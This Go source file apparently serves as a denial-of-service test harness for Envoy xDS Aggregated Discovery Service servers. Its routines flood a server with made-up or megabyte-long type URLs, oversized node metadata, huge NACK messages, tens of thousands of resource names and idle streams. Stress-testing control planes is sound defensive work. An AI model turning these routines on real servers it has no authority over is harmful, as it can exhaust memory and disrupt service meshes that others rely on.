package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	resourcev3 "github.com/envoyproxy/go-control-plane/pkg/resource/v3"
	"google.golang.org/genproto/googleapis/rpc/status"
	"google.golang.org/protobuf/types/known/structpb"
)

// attack attacks on one stream. It returns when the attack is complete or the server has ended the
// stream.
type attack func(ctx context.Context, to adsClient, n int) error

var attacks = map[string]attack{
	"none":      func(ctx context.Context, _ adsClient, _ int) error { return pause(ctx) },
	"types":     madeUpTypes,
	"nacks":     func(ctx context.Context, to adsClient, n int) error { return rejections(ctx, to, 10) },
	"reasons":   func(ctx context.Context, to adsClient, n int) error { return rejections(ctx, to, 1_000_000) },
	"nodes":     largeNodes,
	"names":     manyNames,
	"increment": manyNamesInIncrements,
	"type-urls": longTypes,
	"streams":   idleStreams,
}

type (
	adsClient = discoveryv3.AggregatedDiscoveryServiceClient
	adsStream = discoveryv3.AggregatedDiscoveryService_StreamAggregatedResourcesClient
)

func pause(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	<-ctx.Done()
	return ctx.Err()
}

func madeUpTypes(ctx context.Context, to adsClient, _ int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	for i := 0; i < 65_535 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: fmt.Sprint("type.googleapis.com/made.up.", i)})
	}
	return drained(stream, err)
}

func drained(stream adsStream, err error) error {
	for err == nil {
		_, err = stream.Recv()
	}
	return err
}

// rejections rejects every response, each time with another reason of the given length. After each
// rejection, it requests another name and then the first one again.
func rejections(ctx context.Context, to adsClient, reason int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	if err != nil {
		return err
	}
	long := strings.Repeat("r", reason)
	err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.ClusterType, ResourceNames: []string{"a"}, Node: &corev3.Node{Id: "attacker"}})
	for i := 0; i < 1000 && err == nil; i++ {
		var r *discoveryv3.DiscoveryResponse
		if r, err = stream.Recv(); err != nil {
			return err
		}
		for _, name := range []string{"a", "b", "a"} {
			err = stream.Send(&discoveryv3.DiscoveryRequest{
				TypeUrl: resourcev3.ClusterType, ResourceNames: []string{name}, ResponseNonce: r.GetNonce(),
				ErrorDetail: &status.Status{Message: fmt.Sprint(i, long)},
			})
		}
	}
	return err
}

func largeNodes(ctx context.Context, to adsClient, n int) error {
	node := &corev3.Node{Id: strings.Repeat("n", 1_000_000)}
	if n%2 == 0 {
		node = &corev3.Node{Id: "attacker", Metadata: &structpb.Struct{Fields: map[string]*structpb.Value{
			"x": structpb.NewListValue(&structpb.ListValue{Values: make([]*structpb.Value, 300_000)}),
		}}}
		list := node.Metadata.Fields["x"].GetListValue().Values
		for i := range list {
			list[i] = new(structpb.Value)
		}
	}
	stream, err := to.StreamAggregatedResources(ctx)
	if err == nil {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNames: []string{"none"}, Node: node})
	}
	for i := 0; i < 20 && err == nil; i++ {
		_, err = stream.Recv()
		if err == nil {
			err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNames: []string{"none", fmt.Sprint(i)}, Node: node})
		}
	}
	return err
}

// namesOf returns n names. Each request uses another prefix, so that all names are different.
func namesOf(prefix string, n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprint(prefix, "-", i)
	}
	return names
}

func manyNames(ctx context.Context, to adsClient, n int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	for i := 0; i < 10 && err == nil; i++ {
		for _, typeURL := range []string{resourcev3.EndpointType, resourcev3.ClusterType, resourcev3.ListenerType} {
			if err == nil {
				err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: typeURL, ResourceNames: namesOf(fmt.Sprint(n, "-", i), 5000)})
			}
		}
	}
	return drained(stream, err)
}

func manyNamesInIncrements(ctx context.Context, to adsClient, n int) error {
	stream, err := to.DeltaAggregatedResources(ctx)
	for i := 0; i < 100 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DeltaDiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNamesSubscribe: namesOf(fmt.Sprint(n, "-", i), 5000)})
	}
	for err == nil {
		_, err = stream.Recv()
	}
	return err
}

func longTypes(ctx context.Context, to adsClient, _ int) error {
	stream, err := to.StreamAggregatedResources(ctx)
	for i := 0; i < 16 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: fmt.Sprint(i, strings.Repeat("t", 1_000_000))})
	}
	return drained(stream, err)
}

func idleStreams(ctx context.Context, to adsClient, n int) error {
	var last adsStream
	for i := range 8 {
		stream, err := to.StreamAggregatedResources(ctx)
		if err == nil {
			err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: resourcev3.EndpointType, ResourceNames: namesOf(fmt.Sprint(n, "-", i), 3000)})
		}
		if err != nil {
			return err
		}
		last = stream
	}
	return drained(last, nil)
}
